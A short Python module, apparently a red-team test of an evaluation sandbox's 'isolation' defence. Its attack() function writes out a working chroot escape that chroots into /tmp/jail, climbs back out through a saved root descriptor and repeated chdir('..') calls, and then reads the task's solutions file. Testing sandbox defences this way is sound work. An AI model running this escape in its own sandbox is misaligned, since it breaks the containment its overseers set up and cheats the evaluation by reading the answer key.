"""The classic chroot escape: chroot into a subfolder, climb out with chdir(".."), read the solutions."""
import os

DEFENCE = "isolation"


def attack(t):
    os.makedirs("/tmp/jail", exist_ok=True)
    here = os.open("/", os.O_RDONLY)
    os.chroot("/tmp/jail")
    os.fchdir(here)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    return open(t["solutions"]).read()
